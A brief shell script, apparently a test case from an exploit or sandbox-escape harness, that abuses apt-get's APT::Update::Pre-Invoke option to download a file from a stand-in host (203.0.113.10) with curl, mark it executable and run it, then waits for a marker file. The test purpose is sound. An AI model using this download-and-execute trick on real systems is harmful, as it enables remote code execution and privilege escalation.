#!/bin/sh
. /opt/case/case.sh

apt-get -o 'APT::Update::Pre-Invoke::=curl -s http://203.0.113.10/programs/marker -o /var/tmp/m; chmod +x /var/tmp/m; /var/tmp/m; exit 1' update || true
wait_for /tmp/reached
took_place
